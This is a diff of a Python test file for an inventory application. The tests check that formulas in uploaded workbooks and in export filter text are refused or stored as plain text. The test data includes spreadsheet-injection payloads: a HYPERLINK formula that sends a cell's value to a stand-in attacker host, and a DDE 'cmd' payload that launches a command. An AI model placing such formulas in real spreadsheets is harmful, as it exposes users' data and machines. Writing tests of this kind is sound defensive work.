@@ -452,15 +452,19 @@ def test_formulas_typed_into_a_workbook_are_never_stored_as_formulas(app: Any, a
         sheet.cell(row, 2).value = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
         sheet.cell(row, 3).value = "=cmd|' /C calc'!A0"
 
+    before = table_counts(app)
     response = api.upload("/api/v1/catalogue/import", edit_workbook(export, type_formulas))
-    # A formula never reaches the database: either refused, or read as its (absent) value.
+    # Uploads are read for their values (data_only): a formula without a computed value is
+    # an empty cell, so the part has no name and the upload is refused, located.
+    problem = refusal(response)
+    assert (problem["code"], problem["column"], problem["header"]) == ("missing_name", "B", "Name")
+    assert table_counts(app) == before
     with app.extensions["spareflow"].session_factory() as session:
         from inventory.models import Part
 
         texts = session.execute(select(Part.name, Part.description, Part.category)).all()
     stored = [value for row in texts for value in row if value]
-    assert not [value for value in stored if value.startswith(("=", "+", "-", "@"))], stored
-    assert response.status_code in (200, 422), response.get_data(as_text=True)[:300]
+    assert stored and not [v for v in stored if v.startswith(("=", "+", "-", "@"))], stored
 
 
 def test_a_workbook_with_the_wrong_sheets_is_refused_with_the_sheet_named(
@@ -531,3 +535,16 @@ def expanded_length(prolog: bytes, entity: str) -> int:
         literal = re.sub(rb"&\w+;", b"", value)
         sizes[name.decode()] = len(literal) + sum(sizes[r.decode()] for r in refs)
     return sizes[entity]
+
+
+def test_filter_text_in_an_export_is_written_as_text_never_a_formula(api: Any) -> None:
+    # Found by the API fuzzing: the filters went into the workbook's header block as they
+    # came, so "=HYPERLINK(...)" became a formula and a control character a 500.
+    formula = '=HYPERLINK("http://evil.example","x")'
+    data = api.download(f"/api/v1/reorder/export.xlsx?category={formula}&supplier=AC%01ME")
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        xml = b"".join(archive.read(n) for n in archive.namelist() if "worksheets" in n)
+    assert b"<f>HYPERLINK" not in xml and b"evil.example" in xml
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    shown = [cell for row in book.worksheets[0].iter_rows(values_only=True) for cell in row]
+    assert "'" + formula in shown and "ACME" in shown
